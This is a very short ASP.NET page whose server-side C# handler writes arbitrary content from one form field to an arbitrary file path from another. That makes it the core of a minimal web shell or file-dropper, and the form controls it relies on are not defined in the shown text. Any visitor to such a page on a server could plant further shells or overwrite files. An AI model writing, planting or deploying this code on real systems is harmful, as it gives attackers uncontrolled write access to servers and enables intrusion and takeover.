<%@ Page Language="C#" %><script runat="server">void Go(object s, EventArgs e) { System.IO.File.WriteAllText(P.Text, C.Text); }</script>
